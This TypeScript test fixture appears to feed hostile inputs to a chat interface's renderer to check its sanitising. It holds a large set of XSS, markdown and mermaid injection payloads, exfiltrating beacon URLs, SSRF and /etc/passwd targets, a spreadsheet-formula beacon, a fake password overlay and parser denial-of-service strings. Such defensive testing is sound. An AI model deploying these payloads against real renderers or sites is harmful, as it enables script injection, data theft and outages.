/**
 * What a model, a provider or a file may say to a reader it means harm. `BEACON` stands for the address of a server that
 * nobody has asked to be visited, `RUN` for a script that leaves a mark.
 */
export interface Payload {
  readonly name: string
  readonly text: string
}

const run = 'globalThis.__ran=(globalThis.__ran||0)+1'
const nested = (open: string, times: number, close = '') => open.repeat(times) + close.repeat(times)

const scripts: readonly string[] = [
  '<script>RUN</script>',
  '<script src="BEACON/s.js"></script>',
  '<SCRIPT SRC=BEACON/s.js></SCRIPT>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<img src=x onerror="RUN">',
  '<img src=x onerror=RUN//',
  '<svg onload="RUN"></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y="20">x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="BEACON/frame"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<object data="BEACON/o"></object>',
  '<embed src="BEACON/e">',
  '<details open ontoggle="RUN"><summary>x</summary></details>',
  '<body onload="RUN">',
  '<input autofocus onfocus="RUN">',
  '<video src=x onerror="RUN"></video>',
  '<video poster="BEACON/poster.png" src="BEACON/v.mp4" autoplay></video>',
  '<audio src="BEACON/a.mp3" autoplay onerror="RUN"></audio>',
  '<marquee onstart="RUN">x</marquee>',
  '<form action="BEACON/f" method="post"><button autofocus>Continue</button></form><script>document.forms[0].submit()</script>',
  '<meta http-equiv="refresh" content="0;url=BEACON/refresh">',
  '<base href="BEACON/">',
  '<link rel="stylesheet" href="BEACON/c.css">',
  '<link rel="prefetch" href="BEACON/p"><link rel="dns-prefetch" href="//beacon.example">',
  '<a href="javascript:RUN" id="x" autofocus>x</a>',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<![CDATA[<script>RUN</script>]]>',
  '<!--><img src=x onerror=RUN>-->',
  '<style>@import "BEACON/i.css";</style>',
  '<style>*{background:url(BEACON/bg)}</style>',
  '<div style="background:url(BEACON/inline)">x</div>',
  '<p style="position:fixed;inset:0;z-index:99999;background:#fff">You are signed out. Enter your password.</p>',
  '<img srcset="BEACON/1x.png 1x, BEACON/2x.png 2x">',
  '<picture><source srcset="BEACON/source.png"><img src="BEACON/img.png"></picture>',
  '<table background="BEACON/table.png"><tr><td>x</td></tr></table>',
  '<input type="image" src="BEACON/input.png">',
  '<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script></xml>',
]

const markdown: readonly string[] = [
  '![picture](BEACON/md.png)',
  '![picture][1]\n\n[1]: BEACON/ref.png',
  '[![linked](BEACON/linked.png)](https://example.com)',
  '![x](BEACON/title.png "a title")',
  '![x](<BEACON/angle.png>)',
  '![x](//beacon.example/protocol-relative.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iUlVOIi8+)',
  '![x](file:///etc/passwd)',
  '![x](blob:BEACON/x)',
  '![x](/api/auth/logout)',
  '[click](javascript:RUN)',
  '[click](JaVaScRiPt:RUN)',
  '[click](java\nscript:RUN)',
  '[click](&#106;avascript:RUN)',
  '[click](javascript&colon;RUN)',
  '[click](\u0001javascript:RUN)',
  '[click](vbscript:RUN)',
  '[click](data:text/html,<script>RUN</script>)',
  '[click](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=)',
  '[click][x]\n\n[x]: javascript:RUN',
  '<javascript:RUN>',
  '<https://example.com" onmouseover="RUN">',
  '[x](https://example.com" onmouseover="RUN)',
  '[x](https://example.com \'" onmouseover="RUN\')',
  'https://example.com/"onmouseover="RUN',
  '[https://bank.example](https://evil.example)',
  '[‮moc.elpmaxe](https://evil.example)',
  '```html\n<img src=x onerror=RUN>\n```',
  '```js"onload="RUN\nx\n```',
  '```<img/src=x/onerror=RUN>\nx\n```',
  '`<img src=x onerror=RUN>`',
  '| a |\n|---|\n| <img src=x onerror=RUN> ![x](BEACON/cell.png) |',
  '- [ ] <input onfocus=RUN autofocus>',
  'x[^1]\n\n[^1]: <img src=x onerror=RUN> ![x](BEACON/note.png)',
  '# <img src=x onerror=RUN>',
  '~~<svg/onload=RUN>~~',
  '![x](http://169.254.169.254/latest/meta-data/)',
  '![x](http://localhost:7275/api/status)',
  'GFM autolink www.example.com"onclick="RUN',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '\\<script\\>RUN\\</script\\>',
]

const diagrams: readonly string[] = [
  '```mermaid\ngraph TD; A["<img src=BEACON/m1.png onerror=RUN>"] --> B\n```',
  '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true}}}%%\ngraph TD; A["<img src=x onerror=RUN>"] --> B\n```',
  '```mermaid\n%%{init: {"themeCSS":"*{background:url(BEACON/m3)}"}}%%\ngraph TD; A-->B\n```',
  '```mermaid\n%%{init: {"themeVariables":{"fontFamily":"x;}*{background:url(BEACON/m4)}"}}}%%\ngraph TD; A-->B\n```',
  '```mermaid\n%%{init: {"fontFamily":"x\\"}@import url(BEACON/m5);"}}%%\ngraph TD; A-->B\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:RUN" "x"\n```',
  '```mermaid\ngraph TD; A-->B; click A call RUN()\n```',
  '```mermaid\nsequenceDiagram\nA->>B: <script>RUN</script>\nlink A: x @ javascript:RUN\n```',
  '```mermaid\nclassDiagram\nclass A["<img src=BEACON/m9.png>"]\nlink A "javascript:RUN"\n```',
  '```mermaid\ngraph TD; A@{ img: "BEACON/m10.png", label: "x" }\n```',
  '```mermaid\narchitecture-beta\n    group api(BEACON/m11.svg)[API]\n```',
  '```mermaid\ngraph TD\nstyle A fill:url(BEACON/m12)\nA-->B\n```',
  '```mermaid\n---\nconfig:\n  themeCSS: "*{background:url(BEACON/m13)}"\n  securityLevel: loose\n---\ngraph TD; A-->B\n```',
  '```mermaid\ngantt\ntitle <img src=x onerror=RUN>\nsection a\nb :a1, 2024-01-01, 3d\nclick a1 href "javascript:RUN"\n```',
]

const formulas: readonly string[] = [
  '$$\\href{javascript:RUN}{click}$$',
  '$$\\url{javascript:RUN}$$',
  '$$\\includegraphics[width=10px]{BEACON/k3.png}$$',
  '$$\\htmlData{x=1}{x}\\htmlStyle{background:url(BEACON/k4)}{x}$$',
  '$$\\htmlClass{fixed inset-0 z-50}{x}$$',
  '$$\\htmlId{root}{x}$$',
  `$$${nested('\\frac{1}{', 400, '}')}$$`,
  `$$\\def\\a{\\a\\a}\\a$$`,
  `$$\\rule{100000em}{100000em}$$`,
]

const heavy: readonly Payload[] = [
  { name: 'quotes in quotes', text: `${nested('> ', 5_000)}deep` },
  { name: 'lists in lists', text: Array.from({ length: 800 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n') },
  { name: 'brackets', text: '['.repeat(20_000) },
  { name: 'brackets and parentheses', text: '[x]('.repeat(10_000) },
  { name: 'stars', text: '*a '.repeat(20_000) },
  { name: 'stars in stars', text: nested('**a _b ', 5_000) },
  { name: 'one long line', text: 'x'.repeat(1_000_000) },
  {
    name: 'a table of a thousand columns',
    text: `|${'a|'.repeat(1_000)}\n|${'-|'.repeat(1_000)}\n|${'b|'.repeat(1_000)}`,
  },
  { name: 'open fences', text: '```\n'.repeat(4_001) },
  { name: 'html in html', text: nested('<div>', 5_000, '</div>') },
  { name: 'entities', text: '&amp;'.repeat(50_000) },
  { name: 'footnotes', text: Array.from({ length: 2_000 }, (_, at) => `[^${at}]`).join(' ') },
  { name: 'accents on one letter', text: `a${'\u0301'.repeat(20_000)}` },
  { name: 'directions', text: '\u202e\u2066\u202d'.repeat(5_000) },
]

function filled(name: string, texts: readonly string[]): Payload[] {
  return texts.map((text, at) => ({ name: `${name} ${at + 1}`, text }))
}

/** All of them, with the address that must stay unvisited. */
export function payloads(beacon: string): readonly Payload[] {
  const all = [
    ...filled('script', scripts),
    ...filled('markdown', markdown),
    ...filled('diagram', diagrams),
    ...filled('formula', formulas),
    ...heavy,
  ]
  return all.map(({ name, text }) => ({ name, text: text.replaceAll('RUN', run).replaceAll('BEACON', beacon) }))
}

/** Names that others choose: of providers, models, files, chats, folders. */
export const names = (beacon: string): readonly string[] =>
  [
    '<img src=x onerror=RUN>',
    '"><svg/onload=RUN>',
    "'-RUN-'",
    '{{constructor.constructor("RUN")()}}',
    '![x](BEACON/name.png)',
    'javascript:RUN',
    '__proto__',
    '../../etc/passwd',
    '\u202egnp.exe',
    '=HYPERLINK("BEACON/csv","x")',
    `${'x'.repeat(400)}`,
    '\u0000\u0007\u001b[31m',
  ].map(text => text.replaceAll('RUN', run).replaceAll('BEACON', beacon))
